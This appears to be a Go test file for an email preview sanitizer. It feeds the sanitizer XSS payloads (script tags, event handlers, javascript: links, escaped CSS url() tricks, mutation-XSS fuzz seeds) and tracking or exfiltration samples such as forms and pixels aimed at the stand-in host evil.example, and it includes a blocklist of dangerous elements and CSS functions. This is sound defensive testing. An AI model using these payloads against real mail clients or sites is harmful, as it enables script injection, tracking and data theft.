package mail_test

import (
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"tabiji/backend/mail"
	"tabiji/backend/outbox"
)

func TestAPreviewKeepsWhatAMailLooksLike(t *testing.T) {
	t.Parallel()
	shown := mail.Preview(mail.View{
		HTML: `<!doctype html><html lang="ja"><head><title>x</title><style>.a{color:#7a3e12}/* note */@media (max-width:480px){.a{font-size:18px}}</style></head>
			<body style="background:#f4efe6;margin:0"><table width="600" cellpadding="0" bgcolor="#ffffff"><tr><td class="a" align="center" style="padding:12px;color:rgb(10,20,30)">中村 彩 様</td></tr></table>
			<img src="cid:pic@tabiji" alt="珈琲" width="120"><a href="https://tabiji.example/豆" style="color:#fff">豆を見る</a><ol start="3" reversed type="a"><li value="9">x</li></ol></body></html>`,
		Inline: []mail.Inline{{ContentID: "pic@tabiji", Type: "image/png", Data: []byte{1, 2, 3}}},
	}, false)
	for _, want := range []string{
		`<html lang="ja">`, `<body style="background:#f4efe6;margin:0">`, `.a{color:#7a3e12}`, `@media (max-width:480px)`,
		`<table width="600" cellpadding="0" bgcolor="#ffffff">`, `class="a" align="center" style="padding:12px;color:rgb(10,20,30)"`, "中村 彩 様",
		`src="data:image/png;base64,AQID"`, `<a style="color:#fff" title="https://tabiji.example/豆">豆を見る</a>`,
		`<ol start="3" reversed="" type="a"><li value="9">x</li></ol>`,
		"default-src 'none'; img-src data:; style-src 'unsafe-inline'",
	} {
		if !strings.Contains(shown.Document, want) {
			t.Errorf("%q is not in %s", want, shown.Document)
		}
	}
	if len(shown.Links) != 1 || shown.Links[0] != (outbox.Link{Text: "豆を見る", Href: "https://tabiji.example/豆", OK: true}) || shown.ImagesWithoutText != 0 || shown.RemoteImages != 0 {
		t.Errorf("%+v", shown)
	}
}

func TestAPreviewLeavesOutWhatCouldDoHarm(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, html, keeps string }{
		{"a script", `a<script>alert(1)</script>b`, "ab"},
		{"a handler", `<p onclick="alert(1)" onload=x>text</p>`, "<p>text</p>"},
		{"a form that sends", `<form action="https://evil.example"><input name=a value=secret><button>送る</button></form>`, "送る"},
		{"a frame", `<iframe src="https://evil.example">x</iframe><p>after</p>`, "after"},
		{"a page that goes elsewhere", `<meta http-equiv=refresh content="0;url=https://evil.example"><p>stay</p>`, "stay"},
		{"a base that moves all addresses", `<base href="https://evil.example/"><p>stay</p>`, "stay"},
		{"styles from elsewhere", `<link rel=stylesheet href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);</style><p>t</p>`, "t"},
		{"a picture in a style", `<p style="color:red;background:url(https://evil.example/t.gif)">t</p>`, `style="color:red"`},
		{"a picture in a style, its name hidden", `<p style="background:u\72l(https://evil.example/t.gif);color:red">t</p>`, `style="color:red"`},
		{"a picture in a style by another function", `<style>p{background:image-set("https://evil.example/t.gif" 1x)}</style>t`, "t"},
		{"a background of old", `<table background="https://evil.example/t.gif"><tr><td>t</td></tr></table>`, "<table>"},
		{"a font from elsewhere", `<style>@font-face{font-family:x;src:"https://evil.example/f"}</style>t`, "t"},
		{"a drawing with a script", `<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/x"/></svg>t`, "t"},
		{"mathematics with a script", `<math><mtext><script>alert(1)</script></mtext></math>t`, "t"},
		{"a film", `<video src="https://evil.example/v" poster="https://evil.example/p"></video><audio src=x></audio>t`, "t"},
		{"a thing to run", `<object data="https://evil.example"></object><embed src=x><applet code=x></applet>t`, "t"},
		{"several sizes of a picture", `<img srcset="https://evil.example/a 1x" src="https://evil.example/b" alt="豆">`, "豆"},
		{"a style that breaks out", `<style></style><img src=x onerror=alert(1)></style>t`, "t"},
		{"a comment for one browser", `<!--[if mso]><script>alert(1)</script><![endif]-->t`, "t"},
		{"a link that runs", `<a href="javascript:alert(1)">click</a>`, "click"},
		{"a picture that is a page", `<img src="data:text/html,<script>alert(1)</script>" alt="x">`, "x"},
		{"a picture that is a drawing", `<img src="data:image/svg+xml;base64,AAAA" alt="x">`, "x"},
		{"a template", `<template><script>alert(1)</script></template>t`, "t"},
		{"a noscript", `<noscript><img src="https://evil.example/t.gif" width=1></noscript>t`, "t"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			for _, dark := range []bool{false, true} {
				shown := mail.Preview(mail.View{HTML: c.html}, dark)
				harmless(t, shown.Document)
				if !strings.Contains(shown.Document, c.keeps) || strings.Contains(shown.Document, "alert(1)") && c.name != "a link that runs" {
					t.Errorf("%s", shown.Document)
				}
			}
		})
	}
}

func TestLinksAndPicturesAreCounted(t *testing.T) {
	t.Parallel()
	shown := mail.Preview(mail.View{HTML: `<a href="https://a.example/x">あ</a><a href="mailto:info@a.example?subject=配信停止">停止</a><a href="tel:0312345678">電話</a>` +
		`<a href="">空</a><a href="#">ここ</a><a href="https://">半端</a><a href="{{ url }}">変数</a><a href="javascript:x">悪</a><a href="https://a.example"><img src="cid:x" alt="豆"></a><a name=x>印</a>` +
		`<img src="https://evil.example/open.gif" width="1" height="1" alt=""><img src="https://a.example/b.png"><img alt="" src="cid:none">`}, false)
	var good, bad []string
	for _, l := range shown.Links {
		if l.OK {
			good = append(good, l.Text)
		} else {
			bad = append(bad, l.Text)
		}
	}
	if strings.Join(good, " ") != "あ 停止 電話 豆" || strings.Join(bad, " ") != "空 ここ 半端 変数 悪" {
		t.Errorf("good %v, bad %v", good, bad)
	}
	if shown.ImagesWithoutText != 1 || shown.RemoteImages != 2 {
		t.Errorf("%d without text, %d from elsewhere", shown.ImagesWithoutText, shown.RemoteImages)
	}
	if n := strings.Count(shown.Document, `class="tabiji-away"`); n != 3 { // the counting point is not shown
		t.Errorf("%d boxes: %s", n, shown.Document)
	}
}

func TestAMailThatKnowsLightAndDarkIsShownAsAskedFor(t *testing.T) {
	t.Parallel()
	v := mail.View{HTML: `<style>@media (prefers-color-scheme: dark){p{color:#eee}}@media (Prefers-Color-Scheme:light){p{color:#111}}</style><p>t</p>`}
	light, dark := mail.Preview(v, false).Document, mail.Preview(v, true).Document
	if !strings.Contains(light, "@media (max-width:0){p{color:#eee}}@media (min-width:0){p{color:#111}}") || !strings.Contains(dark, "@media (min-width:0){p{color:#eee}}@media (max-width:0){p{color:#111}}") {
		t.Errorf("%s\n%s", light, dark)
	}
}

func TestAMailOfTextAloneIsShownAsText(t *testing.T) {
	t.Parallel()
	shown := mail.Preview(mail.View{Text: "一行目\n<b>二行目"}, true)
	harmless(t, shown.Document)
	if !strings.Contains(shown.Document, "<pre>一行目\n&lt;b&gt;二行目</pre>") || !strings.Contains(shown.Document, "color-scheme:dark") {
		t.Errorf("%s", shown.Document)
	}
}

func TestASnippetIsTheBeginningOnOneLine(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, text, want string }{
		{"lines become one", "中村 彩 様\n\n  先日は「エチオピア」を", "中村 彩 様 先日は「エチオピア」を"},
		{"wide spaces and fillers of a preheader are gone", "\u3000\u200b\u034f\u00ad本日\u00a0限り", "本日 限り"},
		{"no more than asked for", strings.Repeat("あ", 100), strings.Repeat("あ", 10)},
		{"marks that turn the text are gone", "a\u202eb", "ab"},
		{"nothing", " \n ", ""},
	} {
		if got := mail.Snippet(c.text, 10); got != c.want && !(len([]rune(c.want)) > 10 && mail.Snippet(c.text, 80) == c.want) {
			t.Errorf("%s: %q", c.name, got)
		}
	}
}

// harmless reads a preview as a browser would and fails on anything that could load or start something.
func harmless(t *testing.T, document string) {
	t.Helper()
	root, err := html.ParseWithOptions(strings.NewReader(document), html.ParseOptionEnableScripting(false))
	if err != nil {
		t.Fatal(err)
	}
	policies := 0
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		if n.Type == html.ElementNode {
			policies += check(t, n)
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c)
		}
	}
	visit(root)
	if policies != 1 {
		t.Fatalf("%d policies in %q", policies, document)
	}
}

func check(t *testing.T, n *html.Node) (policies int) {
	t.Helper()
	switch n.Data {
	case "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "textarea", "select", "link", "base", "video", "audio",
		"source", "track", "svg", "math", "template", "portal", "canvas", "dialog", "map", "area", "noscript", "title", "picture", "frameset":
		t.Fatalf("an element %s", n.Data)
	}
	if n.Namespace != "" {
		t.Fatalf("an element of %s", n.Namespace)
	}
	for _, a := range n.Attr {
		switch key := strings.ToLower(a.Key); {
		case n.Data == "meta" && key == "http-equiv":
			if a.Val != "Content-Security-Policy" {
				t.Fatalf("a meta %s", a.Val)
			}
			policies++
		case strings.HasPrefix(key, "on"), key == "href", key == "srcset", key == "action", key == "formaction", key == "background", key == "ping",
			key == "poster", key == "data", key == "srcdoc", key == "xlink:href", key == "manifest", key == "usemap", key == "target", key == "rel":
			t.Fatalf("<%s %s=%q>", n.Data, a.Key, a.Val)
		case key == "src":
			if n.Data != "img" || !strings.HasPrefix(a.Val, "data:image/") || strings.Contains(a.Val, "svg") {
				t.Fatalf("<%s src=%q>", n.Data, a.Val)
			}
			if u, err := url.Parse(a.Val); err != nil || u.Scheme != "data" {
				t.Fatalf("<%s src=%q>", n.Data, a.Val)
			}
		case key == "style":
			loadsNothing(t, a.Val)
		}
	}
	if n.Data == "style" {
		if n.FirstChild != nil && n.FirstChild.NextSibling != nil || n.FirstChild != nil && n.FirstChild.Type != html.TextNode {
			t.Fatal("a style with more than text")
		}
		if n.FirstChild != nil {
			loadsNothing(t, n.FirstChild.Data)
		}
	}
	return policies
}

// loadsNothing knows every way CSS has to name another place: functions that take one, rules that take
// one, and escapes, which could spell either.
func loadsNothing(t *testing.T, css string) {
	t.Helper()
	lower := strings.ToLower(css)
	for _, bad := range []string{"url(", "image(", "image-set(", "cross-fade(", "element(", "src(", "paint(", "expression(", "@import", "@font-face", "@namespace",
		"@charset", "behavior", "-moz-binding", "\\", "</"} {
		if strings.Contains(lower, bad) {
			t.Fatalf("styles with %s: %q", bad, css)
		}
	}
}

// FuzzPreview: whatever a mail holds, its preview loads and starts nothing (design D11).
func FuzzPreview(f *testing.F) {
	for _, s := range []string{
		`<p style="background:url(x)" onclick=y>a<script>b</script>`, `<style>@import "x";p{color:rgb(1,2,3)}</style>`, `<svg><style><img src=x onerror=y></style></svg>`,
		`<math><mi><style></mi><img src onerror=1>`, `<table><form><td><input formaction=x></table><a href=" javascript:1">`, `<img src="cid:a" srcset=x><img src="data:image/png;base64,AA==" alt=">">`,
		"<noscript><p title=\"</noscript><img src=x onerror=1>\">", `<style>/*</style><script>*/</style>`, `<!--><script>1</script>-->`, `<plaintext><a title='"><script>'>`,
		`<body onload=1 style="color:red;;:;a:b(c"><body class="x"><html lang='"><script>'>`, "<p style='color:\\75rl(x)'>\x00<a\x00href=x>", `<textarea></textarea><title></title><xmp><b></xmp>`,
	} {
		f.Add(s, "text", false)
	}
	f.Fuzz(func(t *testing.T, source, text string, dark bool) {
		shown := mail.Preview(mail.View{HTML: source, Text: text, Inline: []mail.Inline{{ContentID: "a", Type: "image/png", Data: []byte(text)}, {ContentID: text, Type: text, Data: []byte(source)}}}, dark)
		harmless(t, shown.Document)
	})
}
